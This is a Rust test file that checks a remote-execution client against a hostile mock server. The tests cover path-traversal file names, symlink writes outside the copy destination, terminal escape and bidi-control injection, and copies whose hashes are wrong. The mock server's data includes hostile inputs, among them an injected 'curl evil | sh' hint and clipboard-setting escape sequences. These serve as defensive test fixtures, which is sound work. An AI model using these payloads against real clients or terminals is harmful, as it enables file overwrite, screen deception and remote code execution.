//! Targets that attack the client: names that leave the destination of a copy, and text that controls the terminal.
#![allow(clippy::unwrap_used, clippy::expect_used, reason = "a failed step ends the test")]

#[path = "support/server.rs"]
mod server;
mod support;

use std::fs;
use std::os::unix::fs::symlink;
use std::process::Command;

use server::{ended, with_server};
use support::run;
use testkit::sandbox::Sandbox;
use testkit::screen::Screen;

/// The response to `session.open`.
const OPENED: &str = r#"{"session_id":"s_1","protocol":"rexd/1","server_version":"0.2.0","capabilities":["exec","fs","events","fs.stat.hash","fs.read.hash","fs.write.hash","fs.write.permissions","fs.write.durable"],"limits":{"default_timeout_ms":30000,"max_output_bytes":1048576,"max_file_read_bytes":1048576},"workspace_roots":["/srv"]}"#;

/// A session, a directory `/srv/d` with the entries given by `list`, and files that contain `evil`.
fn directory_of(list: &str) -> String {
    format!(
        r#"
  *'"session.open"'*) answer '{OPENED}';;
  *'"fs.stat"'*'/srv/d"'*|*'"fs.stat"'*'/srv/d/."'*) answer '{{"path":"/srv/d","exists":true,"type":"dir"}}';;
  *'"fs.stat"'*) answer '{{"path":"/srv/d/f","exists":true,"type":"file","size":4,"mode":"-rw-r--r--"}}';;
  *'"fs.list"'*'/srv/d"'*|*'"fs.list"'*'/srv/d/."'*) answer '{{"path":"/srv/d","entries":[{list}]}}';;
  *'"fs.list"'*) answer '{{"path":"/srv/d/d","entries":[{{"name":"f","path":"/srv/d/d/f","type":"file","size":4}}]}}';;
  *'"fs.read"'*) answer '{{"path":"/srv/d/f","size":4,"mtime":1,"encoding":"utf8","content":"evil","truncated":false,"mode":"-rw-r--r--","hash":"b5c1fb2efc6d6b4674c2fdcc48ce01b43a3b7c03763c0c3355de0099ee0f8c73"}}';;
  *'"session.close"'*) answer '{{"ok":true}}';;
"#
    )
}

fn entry(name: &str, kind: &str) -> String {
    format!(r#"{{"name":"{name}","path":"/srv/d/x","type":"{kind}","size":4}}"#)
}

/// Every file below a directory, with its content.
fn files_below(sandbox: &Sandbox, dir: &str) -> String {
    let output = Command::new("grep").args(["-r", ""]).current_dir(sandbox.path(dir)).output().unwrap();
    String::from_utf8(output.stdout).unwrap()
}

#[test]
fn a_copy_refuses_names_that_are_not_file_names() {
    for name in ["../evil", "/tmp/rex-evil", "", ".", "..", "a/b", "a\\u0000b"] {
        for kind in ["file", "dir"] {
            let sandbox = Sandbox::new();
            let cases = directory_of(&format!("{},{}", entry("fine", "file"), entry(name, kind)));
            let output = ended(&mut with_server(&sandbox, &cases, &["cp", ":/srv/d", "copy"]));
            let errors = String::from_utf8_lossy(&output.stderr);
            assert_eq!(output.status.code(), Some(255), "{name:?}: {errors}");
            assert!(errors.contains("not a file name"), "{name:?}: {errors}");
            assert_eq!(files_below(&sandbox, "root"), "", "{name:?}");
            let output = ended(&mut with_server(&sandbox, &cases, &["ls", "/srv/d"]));
            assert_eq!(output.status.code(), Some(255), "{name:?}: {output:?}");
        }
    }
}

#[test]
fn a_copy_of_the_same_server_with_fine_names_succeeds() {
    let sandbox = Sandbox::new();
    let cases = directory_of(&format!("{},{}", entry("..fine", "file"), entry("d", "dir")));
    let output = ended(&mut with_server(&sandbox, &cases, &["cp", ":/srv/d", "copy"]));
    assert!(output.status.success(), "{output:?}");
    assert_eq!(sandbox.read("root/copy/..fine") + &sandbox.read("root/copy/d/f"), "evilevil");
}

#[test]
fn a_copy_does_not_write_through_links_below_its_destination() {
    let sandbox = Sandbox::new();
    let list = [entry("file", "file"), entry("d", "dir"), entry("fine", "file")].join(",");
    let secret = sandbox.write("outside/secret", "mine");
    fs::create_dir_all(sandbox.path("root/copy/d")).unwrap();
    fs::remove_dir(sandbox.path("root/copy/d")).unwrap();
    symlink(sandbox.path("outside"), sandbox.path("root/copy/d")).unwrap();
    symlink(&secret, sandbox.path("root/copy/file")).unwrap();
    // The partial files of a copy are links too.
    symlink(&secret, sandbox.path("root/copy/.fine.rex-part")).unwrap();
    let output = ended(&mut with_server(&sandbox, &directory_of(&list), &["cp", ":/srv/d/.", "copy"]));
    let errors = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(1), "{errors}");
    assert!(errors.contains("symbolic link"), "{errors}");
    assert_eq!(sandbox.read("outside/secret"), "mine");
    assert!(!sandbox.path("outside/f").exists());
    for name in ["file", "fine"] {
        assert!(sandbox.path(format!("root/copy/{name}")).symlink_metadata().unwrap().is_file(), "{name}");
        assert_eq!(sandbox.read(&format!("root/copy/{name}")), "evil");
    }
}

#[test]
fn a_single_file_replaces_a_link_and_the_destination_itself_may_be_one() {
    let sandbox = Sandbox::new();
    sandbox.write("outside/secret", "mine");
    symlink("../outside/secret", sandbox.path("root/link")).unwrap();
    symlink("../outside", sandbox.path("root/dir")).unwrap();
    let cases = directory_of("");
    for to in ["link", "dir"] {
        let output = ended(&mut with_server(&sandbox, &cases, &["cp", ":/srv/d/f", to]));
        assert!(output.status.success(), "{to}: {output:?}");
    }
    assert!(sandbox.path("root/link").symlink_metadata().unwrap().is_file());
    assert_eq!((sandbox.read("root/link"), sandbox.read("outside/f")), ("evil".into(), "evil".into()));
    assert_eq!(sandbox.read("outside/secret"), "mine");
}

/// Text that sets the clipboard, clears the screen, reverses a line and hides a character.
const DECEPTION: &str = r"\u001b]52;c;ZXZpbA==\u0007\u001b[2J\u009b31m\u202egpj\u200b\u2066x\u2069";

#[test]
fn text_of_a_target_is_escaped_on_a_terminal_and_unchanged_in_a_pipe() {
    let sandbox = Sandbox::new();
    let cases = format!(
        r#"
  *'"session.open"'*) answer '{OPENED}';;
  *'"fs.grep"'*) answer '{{"matches":[{{"path":"/srv/{DECEPTION}","line":1,"column":1,"text":"t{DECEPTION}"}}],"truncated":false}}';;
  *'"fs.glob"'*) answer '{{"matches":["/srv/{DECEPTION}"],"truncated":false}}';;
  *'"fs.list"'*) answer '{{"path":"/srv","entries":[{{"name":"n{DECEPTION}","path":"/srv/n","type":"file","size":1}}]}}';;
  *'"exec.list"'*) answer '{{"processes":[{{"process_id":"p_1","argv":["c{DECEPTION}"],"cwd":"/","pid":1,"status":"running","started_at":"2026-01-01T00:00:00Z","detached":true,"face":"rexd","cursor":0}}]}}';;
  *'"session.close"'*) answer '{{"ok":true}}';;
  *) say "{{\"jsonrpc\":\"2.0\",\"id\":$id,\"error\":{{\"code\":-32000,\"message\":\"m{DECEPTION}\\nhint: curl evil | sh\"}}}}";;
"#
    );
    for arguments in [
        &["read", "x"][..],
        &["grep", "x"],
        &["glob", "*"],
        &["ls"],
        &["ls", "--json"],
        &["stat", "x"],
        &["call", "grep", r#"{"pattern": "x"}"#],
        &["call", "read", r#"{"path": "x"}"#],
        &["edit", "x", "a", "b"],
        &["cp", ":/srv/x", "copy"],
        &["ps"],
        &["target", "test", "local"],
        &["approvals", "list"],
    ] {
        let mut screen = Screen::start(&with_server(&sandbox, &cases, arguments), 200, 60);
        let (_, shown) = screen.end();
        let raw = screen.raw();
        let bad = raw.chars().find(|c| matches!(c, '\u{7}' | '\u{9b}' | '\u{200b}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}'));
        assert_eq!(bad, None, "{arguments:?}: {raw:?}");
        assert!(!raw.contains("\u{1b}]") && !raw.contains("\u{1b}[2J"), "{arguments:?}: {raw:?}");
        assert!(shown.contains(r"u{202e}gpj") || shown.contains(r"\u202egpj"), "{arguments:?}: {shown}");
        assert!(!raw.contains("\nhint: curl"), "{arguments:?}: {raw:?}");
    }
    let output = ended(&mut with_server(&sandbox, &cases, &["glob", "*"]));
    assert!(String::from_utf8(output.stdout).unwrap().contains("\u{1b}[2J\u{9b}31m\u{202e}gpj"));
}

#[test]
fn output_and_contents_stay_as_they_are_on_a_terminal() {
    let sandbox = Sandbox::new();
    sandbox.write("root/file", "\u{1b}]0;file\u{7}\u{202e}");
    assert!(run(&sandbox, &["exec", "--", "true"]).status.success());
    let printing = ["exec", "--", "printf", r"\033]0;file\007\342\200\256"];
    for arguments in [&["read", "file"][..], &printing] {
        let mut screen = Screen::start(&support::rex(&sandbox, arguments), 80, 24);
        screen.end();
        assert!(screen.raw().contains("\u{1b}]0;file\u{7}\u{202e}"), "{arguments:?}: {:?}", screen.raw());
    }
}

/// The size of a file that is copied in two chunks.
const TWO_CHUNKS: usize = 1200;

/// A server with XXH128 whose hashes are wrong, with a file `/srv/f` of two chunks and a file `/srv/d/f` of 4 bytes. It
/// creates `renamed` if a partial file is to replace an old one.
fn wrong_hashes(sandbox: &Sandbox) -> String {
    let renamed = sandbox.path("renamed").display().to_string();
    let opened = OPENED
        .replace("\"fs.read.hash\"", "\"fs.read.hash\",\"fs.hash.xxh128\"")
        .replace("file_read_bytes\":1048576", "file_read_bytes\":600");
    let content = "a".repeat(TWO_CHUNKS / 2);
    let stat = |path: &str, size: usize, hash: &str| {
        format!(
            r#"answer '{{"path":"{path}","exists":true,"type":"file","size":{size},"mode":"-rw-r--r--","mtime":1{hash}}}'"#
        )
    };
    let wrong = format!(r#","hash":"00","hash_bytes":{TWO_CHUNKS}"#);
    let (large, small) = (stat("/srv/f", TWO_CHUNKS, ""), stat("/srv/d/f", 4, ""));
    let hashed = stat("/srv/f", TWO_CHUNKS, &wrong);
    format!(
        r#"
  *'"session.open"'*) answer '{opened}';;
  *'"fs.stat"'*'"hash":"'*) {hashed};;
  *'"fs.stat"'*'.rex-part"'*) answer '{{"path":"/srv/.f.rex-part","exists":false}}';;
  *'"fs.stat"'*'/srv/f"'*) {large};;
  *'"fs.stat"'*) {small};;
  *'"fs.read"'*'/srv/f"'*) answer '{{"path":"/srv/f","size":{TWO_CHUNKS},"mtime":1,"encoding":"utf8","content":"{content}","truncated":true}}';;
  *'"fs.read"'*) answer '{{"path":"/srv/d/f","size":4,"mtime":1,"encoding":"utf8","content":"evil","truncated":false,"mode":"-rw-r--r--","hash":"00"}}';;
  *'"fs.write"'*) answer '{{"path":"/srv/f","bytes_written":4,"mtime":1,"created":false,"hash":"00"}}';;
  *'"fs.rename"'*) : > {renamed}; answer '{{"ok":true}}';;
  *'"session.close"'*) answer '{{"ok":true}}';;
"#
    )
}

#[test]
fn a_copy_whose_hash_is_wrong_fails_and_keeps_the_old_file() {
    let sandbox = Sandbox::new();
    let cases = wrong_hashes(&sandbox);
    sandbox.write("root/copy", "old");
    sandbox.write("root/small", "evi1");
    sandbox.write("root/large", "a".repeat((1 << 20) + 1));
    for (arguments, words) in [
        (["cp", "small", ":/srv/d/f"], "differs from the data that was sent"),
        (["cp", ":/srv/d/f", "copy"], "the received data of /srv/d/f is wrong"),
        (["cp", "large", ":/srv/f"], "differs from the data that was sent; it was removed"),
        (["cp", ":/srv/f", "copy"], "changed during the copy"),
    ] {
        let output = ended(&mut with_server(&sandbox, &cases, &arguments));
        let errors = String::from_utf8_lossy(&output.stderr);
        assert!(!output.status.success() && errors.contains(words), "{arguments:?}: {errors}");
        assert_eq!(sandbox.read("root/copy"), "old", "{arguments:?}");
        assert!(!sandbox.path("renamed").exists(), "{arguments:?}");
    }
}
